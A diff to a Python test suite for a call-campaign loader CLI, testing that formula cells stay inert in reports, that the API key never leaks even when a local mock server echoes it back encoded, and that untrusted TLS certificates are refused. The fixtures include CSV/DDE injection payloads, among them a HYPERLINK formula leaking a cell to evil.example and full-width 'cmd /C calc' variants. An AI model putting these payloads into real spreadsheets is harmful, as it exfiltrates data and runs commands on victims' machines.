@@ -3,23 +3,34 @@ them; the key is never sent in clear text across a network."""
 
 from __future__ import annotations
 
+import base64
 import contextlib
+import copy
 import csv
 import json
 import os
+import pickle
+import shutil
 import signal
+import socket
 import subprocess
+import threading
 import time
+import urllib.parse
+import zipfile
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import httpx
 import pytest
+from pinned_clock import clean_env
 from sandbox_process import CLI, running_sandbox
 
 from loader.cli import main
 from loader.pipeline import load_campaign
 from loader.sandbox import Sandbox, SandboxTransport
+from loader.secrets import MIN_RUN, ApiKey, mask
 
 FORMULAS = {
     "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
@@ -28,6 +39,13 @@ FORMULAS = {
     "minus_formula": "-2+3",
     "tab_first": "\t=1+1",
     "cr_first": "\r=1+1",
+    # Starts like a phone number, then runs a command: "phone-shaped" must mean the whole cell.
+    "phone_then_dde": "+1+cmd|' /C calc'!A0",
+    # The full-width forms, which spreadsheets also read as = @ + -.
+    "fullwidth_equals": '\uff1dHYPERLINK("http://evil.example")',
+    "fullwidth_at": "\uff20SUM(1+1)*cmd|' /C calc'!A0",
+    "fullwidth_plus": "\uff0bcmd|' /C calc'!A0",
+    "fullwidth_minus": "\uff0d2+3",
 }
 HARMLESS = {"phone_like": "+919876543210", "negative": "-3"}
 
@@ -73,6 +91,24 @@ def test_formula_cells_are_inert_in_the_results_but_sent_to_the_api_exactly_as_w
     assert metadata["Name"] == "=1+1"
     assert metadata["phone_like"] == "+919876543210"
     assert metadata["negative"] == -3
+
+
+def test_formula_cells_stay_text_in_the_excel_problem_report(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    sheet = write_sheet(tmp_path)
+    with sheet.open("a", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerow(["12345", "=1+1", *FORMULAS.values(), *HARMLESS.values()])  # invalid
+    report = tmp_path / "problems.xlsx"
+    assert main(["validate", str(sheet), "--default-region", "IN", "--report", str(report)]) == 1
+
+    header, *rows = load_workbook(report).active.iter_rows()
+    for column, formula in [*FORMULAS.items(), ("Name", "=1+1")]:
+        cells = [row[[h.value for h in header].index(column)] for row in rows]
+        assert [c.data_type for c in cells] == ["s", "s"], column  # text, never run
+        assert cells[0].value == formula or "\r" in formula, column  # exactly as written
+    with zipfile.ZipFile(report) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no formula anywhere
 
 
 def test_formula_cells_are_inert_in_the_problem_report(tmp_path: Path) -> None:
@@ -124,21 +160,42 @@ def campaign_for(url: str, agent: str, key: str) -> str:
     return str(httpx.get(f"{url}/_sandbox/campaigns").json()[-1]["batch_id"])
 
 
-def load(folder: Path, url: str, *options: str, name: str, wait: float | None = None) -> tuple[str, str]:
-    """Run the installed command with every output switched on; return stdout and stderr."""
-    env = {k: v for k, v in os.environ.items() if not k.startswith("CALLKARO_")}
-    env["CALLKARO_API_KEY"] = MARKER
+def load(
+    folder: Path,
+    url: str,
+    *options: str,
+    name: str,
+    stop_when: str | None = None,
+    key: str = MARKER,
+    agent: str = "demo-agent",
+    results: str = "csv",
+) -> tuple[str, str]:
+    """Run the installed command with every output switched on; return stdout and stderr.
+
+    ``stop_when``: the sandbox's URL; SIGTERM is sent once the campaign and the first call have
+    reached it, so the run is surely sending."""
+    env = clean_env()
+    env["CALLKARO_API_KEY"] = key
     argv = [
-        CLI, "run", "leads.csv", "--agent-id", "demo-agent", "--default-region", "IN", "--base-url", url,
-        "--output", f"{name}.results.csv", "--log-file", f"{name}.log.jsonl",
+        CLI, "run", "leads.csv", "--agent-id", agent, "--default-region", "IN", "--base-url", url,
+        "--output", f"{name}.results.{results}", "--log-file", f"{name}.log.jsonl",
         "--summary-json", f"{name}.summary.json", "--no-progress", *options,
     ]  # fmt: skip
     with subprocess.Popen(argv, cwd=folder, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as run:
-        if wait is not None:
-            time.sleep(wait)
+        if stop_when is not None:
+            wait_for_requests(stop_when, 2, run)
             run.send_signal(signal.SIGTERM)
         out, err = run.communicate(timeout=120)
     return out.decode(), err.decode()
+
+
+def wait_for_requests(url: str, count: int, run: subprocess.Popen[bytes]) -> None:
+    """Until the sandbox at ``url`` has received ``count`` API requests (the run is sending)."""
+    deadline = time.monotonic() + 60
+    while httpx.get(f"{url}/_sandbox/stats", timeout=10).json().get("requests", 0) < count:
+        assert run.poll() is None, "the run ended before it sent anything"
+        assert time.monotonic() < deadline, f"no request reached the sandbox in 60 s: {run.args}"
+        time.sleep(0.02)
 
 
 def test_the_api_key_appears_in_no_output_log_results_state_summary_or_report(tmp_path: Path) -> None:
@@ -159,7 +216,9 @@ def test_the_api_key_appears_in_no_output_log_results_state_summary_or_report(tm
         batch = campaign_for(url, "demo-agent", MARKER)
         printed += load(folder, url, "--batch-id", batch, name="no-answer")
     with sandbox("--api-key", MARKER, "--latency-ms", "1500") as url:
-        printed += load(folder, url, name="interrupted", wait=1.0)
+        # One call at a time, stopped once the first has reached the sandbox: that one is answered
+        # in the grace period, the second is never sent.
+        printed += load(folder, url, "--concurrency", "1", name="interrupted", stop_when=url)
     for report in ("report.csv", "report.xlsx"):
         done = subprocess.run(
             [CLI, "validate", "leads.csv", "--default-region", "IN", "--report", report],
@@ -184,7 +243,7 @@ def test_the_api_key_appears_in_no_output_log_results_state_summary_or_report(tm
     assert statuses["ok"].get("scheduled") == 2
     assert statuses["refused-400"].get("failed") == 2
     assert statuses["no-answer"].get("uncertain") == 2
-    assert statuses["interrupted"].get("scheduled", 0) < 2
+    assert statuses["interrupted"] == {"scheduled": 1, "invalid": 1, "pending": 1}
 
     leaks = [p.name for p in folder.iterdir() if p.is_file() and MARKER.encode() in p.read_bytes()]
     assert leaks == []
@@ -237,3 +296,270 @@ def test_a_403_that_echoes_the_key_back_leaks_it_nowhere(
     out, err = capsys.readouterr()
     assert MARKER not in out + err
     assert [p.name for p in tmp_path.iterdir() if MARKER.encode() in p.read_bytes()] == []
+
+
+# --- a server that echoes the key back in every form a person would recognise --------------------
+
+#: A key with characters that URL-encoding and base64 change, so that each form differs.
+HOSTILE_KEY = "ck_live+7f3a9c2e/MARKER=d41d8cd98f00b204"
+KEY_FORMS = {
+    "as sent": HOSTILE_KEY,
+    "lower-cased": HOSTILE_KEY.lower(),
+    "upper-cased": HOSTILE_KEY.upper(),
+    "base64": base64.b64encode(HOSTILE_KEY.encode()).decode(),
+    "url-safe base64": base64.urlsafe_b64encode(HOSTILE_KEY.encode()).decode().rstrip("="),
+    "url-encoded": urllib.parse.quote(HOSTILE_KEY, safe=""),
+    "first 12 characters": HOSTILE_KEY[:12],
+    "last 8 characters": HOSTILE_KEY[-8:],
+    "letter-spaced": " ".join(HOSTILE_KEY),
+    "dot-spaced upper-cased": ".".join(HOSTILE_KEY.upper()),
+}
+FORM_LEADS = "phone,Name,form\n" + "".join(
+    f"+91 98765 432{index:02d},Lead {index},{form}\n" for index, form in enumerate(KEY_FORMS)
+)
+
+
+def hostile_api() -> tuple[Any, list[dict[str, Any]]]:
+    """A CallKaro API that answers with the key it was sent, chosen by ``agent_id``:
+
+    ``echo-in-campaign``: the campaign is refused (400) with every form of the key in the message;
+    ``echo-in-calls``: each call is refused (400) with the form its row's ``form`` cell names;
+    ``key-as-batch-id`` / ``key-in-call-id``: success, with the key as (or inside) the id;
+    any other: success. ``calls`` records every request body that reached it."""
+    from starlette.applications import Starlette
+    from starlette.requests import Request
+    from starlette.responses import JSONResponse
+    from starlette.routing import Route
+
+    calls: list[dict[str, Any]] = []
+    agents: dict[str, str] = {}
+
+    async def campaign(request: Request) -> JSONResponse:
+        key, agent = request.headers["x-api-key"], (await request.json())["agent_id"]
+        calls.append({"campaign_for": agent})
+        if agent == "echo-in-campaign":
+            told = "; ".join(f"{name}: {form}" for name, form in forms_of(key).items())
+            return JSONResponse({"status": "error", "message": f"key not allowed ({told})"}, 400)
+        batch = key if agent == "key-as-batch-id" else f"batch-{len(agents)}"
+        agents[batch] = agent
+        return JSONResponse({"status": "success", "batch_id": batch})
+
+    async def outbound(request: Request) -> JSONResponse:
+        body = await request.json()
+        calls.append(body)
+        key, agent = request.headers["x-api-key"], agents[body["batch_id"]]
+        if agent not in ("echo-in-calls", "key-in-call-id"):
+            return JSONResponse({"status": "success", "call_id": f"call-{len(calls)}"})
+        if agent == "key-in-call-id":
+            return JSONResponse({"status": "success", "call_id": f"call-{key}-1"})
+        form = forms_of(key)[body["metadata"]["form"]]
+        return JSONResponse({"status": "error", "message": f"the key {form} may not call this number"}, 400)
+
+    routes = [
+        Route("/call/campaign", campaign, methods=["POST"]),
+        Route("/call/outbound", outbound, methods=["POST"]),
+    ]
+    return Starlette(routes=routes), calls
+
+
+def forms_of(key: str) -> dict[str, str]:
+    assert key == HOSTILE_KEY
+    return KEY_FORMS
+
+
+@contextlib.contextmanager
+def serving(app: Any, **config: Any) -> Iterator[str]:
+    """``app`` served by uvicorn on a loopback port, in a thread; its base URL."""
+    import uvicorn
+
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    server = uvicorn.Server(uvicorn.Config(app, log_level="critical", lifespan="off", **config))
+    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
+    thread.start()
+    try:
+        deadline = time.monotonic() + 30
+        while not server.started:  # set by uvicorn once it is accepting connections
+            assert thread.is_alive() and time.monotonic() < deadline, "the hostile API did not start"
+            time.sleep(0.01)
+        scheme = "https" if "ssl_certfile" in config else "http"
+        yield f"{scheme}://127.0.0.1:{listener.getsockname()[1]}"
+    finally:
+        server.should_exit = True
+        thread.join(timeout=30)
+        listener.close()
+
+
+def texts_of(folder: Path) -> dict[str, bytes]:
+    """Every file's bytes; an .xlsx as the XML inside it (its zip would hide the text)."""
+    found: dict[str, bytes] = {}
+    for path in folder.iterdir():
+        if path.suffix == ".xlsx":
+            with zipfile.ZipFile(path) as archive:
+                found[path.name] = b"".join(archive.read(name) for name in archive.namelist())
+        elif path.is_file():
+            found[path.name] = path.read_bytes()
+    return found
+
+
+def leaked(folder: Path, printed: list[str], forms: dict[str, str]) -> list[str]:
+    """Each (form, output) in which that form of the key was found."""
+    outputs = {**texts_of(folder), **{f"printed #{i}": text.encode() for i, text in enumerate(printed)}}
+    return [
+        f"{name} in {where}"
+        for name, form in forms.items()
+        for where, data in outputs.items()
+        if form.encode() in data or form.lower().encode() in data.lower()
+    ]
+
+
+def test_a_server_echoing_the_key_in_any_recognisable_form_leaks_it_into_no_output(tmp_path: Path) -> None:
+    (tmp_path / "leads.csv").write_text(FORM_LEADS, encoding="utf-8")
+    app, calls = hostile_api()
+    with serving(app) as url:
+        refused = load(tmp_path, url, name="campaign", key=HOSTILE_KEY, agent="echo-in-campaign")
+        rejected = load(tmp_path, url, name="calls", key=HOSTILE_KEY, agent="echo-in-calls", results="xlsx")
+    summaries = {
+        name: json.loads((tmp_path / f"{name}.summary.json").read_text()) for name in ("campaign", "calls")
+    }
+    # The echoes really came back and were recorded, so the search below means something.
+    assert summaries["campaign"]["exit_code"] == 3 and "key not allowed (as sent: ********" in refused[1]
+    assert summaries["calls"]["counts"] == {"failed": len(KEY_FORMS)}
+    assert len(calls) == 2 + len(KEY_FORMS)  # two campaigns asked for, and every call
+    log = (tmp_path / "calls.log.jsonl").read_text(encoding="utf-8")
+    assert log.count("HTTP 400: the key ******** may not call this number") == len(KEY_FORMS)
+
+    assert leaked(tmp_path, [*refused, *rejected], KEY_FORMS) == []
+
+
+@pytest.mark.parametrize(("agent", "field"), [("key-as-batch-id", "batch_id"), ("key-in-call-id", "call_id")])
+def test_the_key_handed_back_as_an_id_is_refused_and_never_stored(
+    tmp_path: Path, agent: str, field: str
+) -> None:
+    (tmp_path / "leads.csv").write_text(FORM_LEADS, encoding="utf-8")
+    app, calls = hostile_api()
+    with serving(app) as url:
+        # One call at a time, so that exactly one is in flight when the first answer is read.
+        out, err = load(tmp_path, url, "--concurrency", "1", name="run", key=HOSTILE_KEY, agent=agent)
+    summary = json.loads((tmp_path / "run.summary.json").read_text())
+    assert summary["exit_code"] == 3
+    assert err.splitlines() == [
+        f"callkaro-loader: error: the API sent the API key back as the {field}; the id was not stored "
+        "and nothing more is sent",
+        "hint: Report this to CallKaro, and replace the key if others may have seen their answers.",
+    ]
+    if field == "batch_id":
+        assert len(calls) == 1 and summary["counts"] == {"pending": len(KEY_FORMS)}
+    else:
+        # The API said the first call is scheduled: it is never sent again, and no other is sent.
+        assert len(calls) == 2 and summary["counts"] == {"uncertain": 1, "pending": len(KEY_FORMS) - 1}
+    assert leaked(tmp_path, [out, err], KEY_FORMS) == []
+
+
+@pytest.mark.parametrize(
+    ("argv", "named"),
+    [
+        (["run", "leads.csv", "--api", MARKER], "unrecognized arguments: --api ********"),
+        (["run", "leads.csv", "--token=" + MARKER], "unrecognized arguments: --token=********"),
+        (["validate", "leads.csv", "--a=" + MARKER], "ambiguous option: --a=******** could match"),
+        # argparse takes the key for the command here: hidden all the same.
+        (["--auth", MARKER, "run", "leads.csv"], "invalid choice: '********'"),
+    ],
+)
+def test_a_key_given_to_an_unknown_flag_is_not_echoed_in_the_usage_error(
+    argv: list[str], named: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    with pytest.raises(SystemExit) as exited:
+        main(argv)
+    err = capsys.readouterr().err
+    assert exited.value.code == 2
+    assert named in err.splitlines()[0] and len(err.splitlines()) == 2
+    assert MARKER[:8] not in err
+
+
+def test_the_key_object_never_shows_the_key_and_cannot_be_pickled() -> None:
+    key = ApiKey(MARKER)
+    for shown in (repr(key), str(key), f"{key}", f"{key!r}", repr([key]), repr({"key": key})):
+        assert shown.count("ApiKey('********')") == 1 and MARKER[:8] not in shown, shown
+    for copy_out in (pickle.dumps, lambda k: pickle.dumps(k, protocol=0), copy.copy, copy.deepcopy):
+        with pytest.raises(TypeError, match="an ApiKey cannot be pickled"):
+            copy_out(key)
+    assert key.reveal() == MARKER
+
+
+@pytest.mark.parametrize(("form", "echoed"), KEY_FORMS.items())
+def test_mask_hides_each_form_of_the_key_inside_a_message(form: str, echoed: str) -> None:
+    key = ApiKey(HOSTILE_KEY)
+    assert mask(f"HTTP 400: key {echoed} is not allowed", key) == "HTTP 400: key ******** is not allowed"
+    assert key.found_in(f"call-{echoed}-1")
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        "Invalid API key",
+        "Missing X-API-KEY in headers",
+        "agent_id demo-agent does not match campaign 0a1b2c3d4e5f60718293a4b5, which belongs to agent x",
+        "to_number must be in E.164 format",
+        " ".join(HOSTILE_KEY[: MIN_RUN - 1]),  # spaced, one character too short
+        HOSTILE_KEY[: MIN_RUN - 1] + " " + HOSTILE_KEY[MIN_RUN - 1 : 2 * MIN_RUN - 2],  # two runs too short
+    ],
+)
+def test_mask_leaves_ordinary_messages_and_short_fragments_alone(message: str) -> None:
+    assert mask(message, ApiKey(HOSTILE_KEY)) == message
+
+
+def self_signed_certificate(folder: Path) -> tuple[Path, Path]:
+    """A certificate for 127.0.0.1 that no authority signed, and its key."""
+    openssl = shutil.which("openssl")
+    if openssl is None:
+        pytest.skip("the openssl command is needed to make a self-signed certificate")
+    cert, key = folder / "cert.pem", folder / "key.pem"
+    subprocess.run(
+        [openssl, "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-keyout", str(key),
+         "-out", str(cert), "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1"],
+        check=True, capture_output=True,
+    )  # fmt: skip
+    return cert, key
+
+
+def test_https_to_a_server_whose_certificate_no_authority_signed_sends_nothing(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from loader.send import RetryPolicy
+
+    for variable in ("SSL_CERT_FILE", "SSL_CERT_DIR", "CALLKARO_BASE_URL"):
+        monkeypatch.delenv(variable, raising=False)
+    cert, key = self_signed_certificate(tmp_path)
+    (tmp_path / "leads.csv").write_text(LEADS, encoding="utf-8")
+    app, calls = hostile_api()
+
+    def run(name: str) -> Any:
+        return load_campaign(
+            tmp_path / "leads.csv", agent_id="demo-agent", default_region="IN", api_key=MARKER,
+            base_url=url, output=tmp_path / f"{name}.csv", retry=RetryPolicy(attempts=1),
+        )  # fmt: skip
+
+    with serving(app, ssl_certfile=str(cert), ssl_keyfile=str(key)) as url:
+        refused = run("untrusted")
+        assert calls == []  # not even the campaign: the key never left
+        assert refused.counts == {"invalid": 1, "pending": 2}
+        message = refused.outcomes.loc[2, "callkaro_message"]
+        assert "could not reach the API" in message and "CERTIFICATE_VERIFY_FAILED" in message.upper()
+        # The same server, once its certificate is trusted: it was verification alone that refused it.
+        monkeypatch.setenv("SSL_CERT_FILE", str(cert))
+        assert run("trusted").counts == {"scheduled": 2, "invalid": 1}
+
+
+def test_a_key_shorter_than_a_run_is_hidden_whole_and_its_encodings_are_left_alone() -> None:
+    # No real key is this short; its base64 ("aw==") must not hide every "a" and "w" of a message.
+    assert mask("call-2 was scheduled (aw==)", ApiKey("k")) == "call-2 was scheduled (aw==)"
+    assert not ApiKey("k").found_in("call-2") and ApiKey("test-key").found_in("id-TEST-KEY")
+
+
+@pytest.mark.parametrize("before", ["", "a", "ab"], ids=["aligned", "one byte in", "two bytes in"])
+def test_mask_finds_the_key_base64_encoded_inside_a_longer_text(before: str) -> None:
+    encoded = base64.b64encode(f"{before}{HOSTILE_KEY} was refused".encode()).decode()
+    masked = mask(encoded, ApiKey(HOSTILE_KEY))
+    # All but the few characters the key shares with its neighbours in a 3-byte group.
+    assert masked.count("********") == 1 and len(masked) <= len(encoded) - len(HOSTILE_KEY)
